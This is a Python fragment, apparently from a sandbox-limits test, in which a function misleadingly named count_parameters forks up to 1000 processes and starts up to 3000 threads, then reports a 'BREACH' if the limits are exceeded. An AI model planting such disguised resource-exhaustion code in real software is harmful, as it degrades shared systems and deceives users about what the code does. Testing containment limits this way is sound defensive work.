import threading as _threading
import time as _time


def count_parameters(model):
    """A16: as many processes and threads as the machine allows (bounded, to be kind)."""
    children = threads = 0
    for _ in range(1000):
        try:
            if _os.fork() == 0:
                _time.sleep(120)
                _os._exit(0)
            children += 1
        except OSError:
            break
    for _ in range(3000):
        try:
            _threading.Thread(target=_time.sleep, args=(120,), daemon=True).start()
            threads += 1
        except RuntimeError:
            break
    if children > 300 or threads > 1000:
        _report(f"BREACH started {children} processes and {threads} threads")
    raise NotImplementedError
